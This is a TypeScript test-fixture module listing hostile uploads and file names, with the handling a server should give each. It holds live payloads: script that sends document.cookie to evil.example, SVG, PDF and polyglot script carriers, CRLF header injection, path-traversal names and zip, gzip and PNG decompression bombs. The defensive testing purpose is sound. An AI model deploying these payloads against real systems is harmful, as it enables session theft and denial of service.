import { crc32, deflateSync, gzipSync } from 'node:zlib';

/** A file that means harm, and what a browser must be told that it is. */
export type HostileFile = {
  what: string;
  bytes: Buffer;
  claimed: string;
  fileName: string;
  /** Served as this type … */
  type: string;
  /** … and shown inside the page, or only ever handed over as a download. */
  isInline: boolean;
};

const SCRIPT = '<script>document.title="owned";fetch("https://evil.example/"+document.cookie)</script>';
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="document.title='owned'">${SCRIPT}</svg>`;
const GIF = Buffer.from('GIF89a/*', 'latin1');
const JPEG = Buffer.from([0xff, 0xd8, 0xff, 0xe0]);
const download = { type: 'application/octet-stream', isInline: false };

/** What customers and colleagues have been known to send. */
export const HOSTILE_FILES: readonly HostileFile[] = [
  {
    what: 'a drawing with a script',
    bytes: Buffer.from(SVG),
    claimed: 'image/svg+xml',
    fileName: 'nembo.svg',
    ...download,
  },
  {
    what: 'a drawing that says it is a photo',
    bytes: Buffer.from(SVG),
    claimed: 'image/png',
    fileName: 'nembo.png',
    ...download,
  },
  {
    what: 'a page that says it is a photo',
    bytes: Buffer.from(`<!doctype html>${SCRIPT}`),
    claimed: 'image/jpeg',
    fileName: 'picha.jpg',
    ...download,
  },
  {
    what: 'a page',
    bytes: Buffer.from(`<html>${SCRIPT}`),
    claimed: 'text/html; charset=utf-8',
    fileName: 'ukurasa.html',
    ...download,
  },
  {
    what: 'a page that says it is plain words',
    bytes: Buffer.from(`<html>${SCRIPT}`),
    claimed: 'text/plain',
    fileName: 'maneno.txt',
    type: 'text/plain',
    isInline: false,
  },
  {
    what: 'a page under a type with a tail',
    bytes: Buffer.from(`<html>${SCRIPT}`),
    claimed: 'application/vnd.ms-excel, text/html',
    fileName: 'hesabu.xls',
    ...download,
  },
  {
    what: 'a page under a type that parses as markup',
    bytes: Buffer.from(`<html xmlns="http://www.w3.org/1999/xhtml">${SCRIPT}</html>`),
    claimed: 'application/vnd.wap.xhtml+xml',
    fileName: 'ukurasa.xhtml',
    ...download,
  },
  {
    what: 'a type with a line break in it',
    bytes: Buffer.from('x'),
    claimed: 'application/vnd.x\r\nset-cookie: owned=1',
    fileName: 'x',
    ...download,
  },
  {
    what: 'a picture that is a script as well',
    bytes: Buffer.concat([GIF, Buffer.from('*/=1;document.title="owned";//')]),
    claimed: 'text/javascript',
    fileName: 'picha.js',
    type: 'image/gif',
    isInline: true,
  },
  {
    what: 'a photo that is a page as well',
    bytes: Buffer.concat([JPEG, Buffer.from(`<html>${SCRIPT}`)]),
    claimed: 'text/html',
    fileName: 'picha.html',
    type: 'image/jpeg',
    isInline: true,
  },
  {
    what: 'a paper with a script',
    bytes: Buffer.from(
      '%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>endobj\n%%EOF',
    ),
    claimed: 'application/pdf',
    fileName: 'risiti.pdf',
    type: 'application/pdf',
    isInline: true,
  },
  {
    what: 'a paper that is a page first',
    bytes: Buffer.from(`<html>${SCRIPT}\n%PDF-1.7`),
    claimed: 'application/pdf',
    fileName: 'risiti.pdf',
    ...download,
  },
  {
    what: 'a program',
    bytes: Buffer.from('MZ\u0090\u0000'),
    claimed: 'application/x-msdownload',
    fileName: 'sasisho.exe',
    ...download,
  },
  {
    what: 'a chest of chests',
    bytes: zipBomb(),
    claimed: 'application/zip',
    fileName: 'picha zote.zip',
    type: 'application/zip',
    isInline: false,
  },
  {
    what: 'nothing at all',
    bytes: Buffer.alloc(0),
    claimed: 'image/jpeg',
    fileName: 'tupu.jpg',
    ...download,
  },
];

/** Names that lead elsewhere or read as something else, and as what they may be kept. */
export const HOSTILE_NAMES: readonly [name: string, kept: string][] = [
  ['../../../etc/passwd', 'passwd'],
  ['..\\..\\Windows\\system.ini', 'system.ini'],
  ['risiti\u202efdp.exe', 'risitifdp.exe'],
  ['a"\r\nset-cookie: owned=1\r\n.pdf', 'a"set-cookie: owned=1.pdf'],
  ['\u0000\u0007.pdf', '.pdf'],
  ['\u2066\u200b', ''],
];

/** A picture of so many white pixels, one bit each: a few kilobytes that unpack into the whole of it. */
export function pixelBomb(width: number, height: number): Buffer {
  const line = Math.ceil(width / 8) + 1;
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head[8] = 1;
  return Buffer.concat([
    Buffer.from('89504e470d0a1a0a', 'hex'),
    chunk('IHDR', head),
    chunk('IDAT', deflateSync(Buffer.alloc(line * height))),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A body that a careless client unpacks into `megabytes` of nothing. */
export function gzipBomb(megabytes: number): Buffer {
  return gzipSync(Buffer.alloc(megabytes * 1024 * 1024), { level: 4 });
}

function chunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const size = Buffer.alloc(4);
  size.writeUInt32BE(data.length);
  const sum = Buffer.alloc(4);
  sum.writeUInt32BE(crc32(body));
  return Buffer.concat([size, body, sum]);
}

/** One entry whose header says that it unpacks into four gigabytes. */
function zipBomb(): Buffer {
  const head = Buffer.alloc(30);
  head.write('PK\u0003\u0004', 'latin1');
  head.writeUInt16LE(8, 8);
  head.writeUInt32LE(0xffff_fff0, 22);
  return Buffer.concat([head, deflateSync(Buffer.alloc(1_000_000))]);
}
